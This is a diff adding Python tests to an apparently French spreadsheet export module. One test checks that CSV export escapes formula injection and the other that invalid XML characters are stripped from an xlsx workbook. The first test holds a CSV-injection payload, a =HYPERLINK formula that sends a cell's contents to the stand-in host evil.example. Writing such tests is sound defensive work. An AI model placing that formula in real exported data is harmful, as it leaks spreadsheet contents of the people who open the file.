@@ -179,6 +179,30 @@ def test_the_csv_is_for_a_french_spreadsheet():
     )
 
 
+def test_the_csv_neutralises_formulas_and_keeps_numbers_as_numbers():
+    """Issue 9: a pilot's « =HYPERLINK(…) » is text in the CSV, read back as written."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+    lines = campaign()
+    lines.fiches[0].values = fiche_values(
+        obstacles=evil, comment="+33 4 68", indicator_21_number="-12,5"
+    )
+    fiches = sheets.build_csv(lines, FICHES).decode("utf-8-sig")
+    assert "'=HYPERLINK" in fiches and "'+33 4 68" in fiches
+    assert ";=" not in fiches and '"=' not in fiches
+    indicators = sheets.build_csv(lines, INDICATORS).decode("utf-8-sig")
+    assert ";-12,5;" in indicators  # a negative number is no formula
+    files = [(f"{s}.csv", sheets.build_csv(lines, s)) for s in (FICHES, ACTIONS, INDICATORS)]
+    assert read(files, lines) == sheets.Reading()
+
+
+def test_a_character_xml_cannot_hold_leaves_the_workbook_writable():
+    lines = campaign()
+    lines.fiches[0].values = fiche_values(obstacles="Retard\x01 du\ufffe partenaire")
+    wb = workbook(lines)
+    assert "Retard du partenaire" in [c.value for c in wb["Fiches"][2]]
+    assert read_xlsx(wb, lines).updates == []
+
+
 # --- Round trips --------------------------------------------------------------------------------
 
 
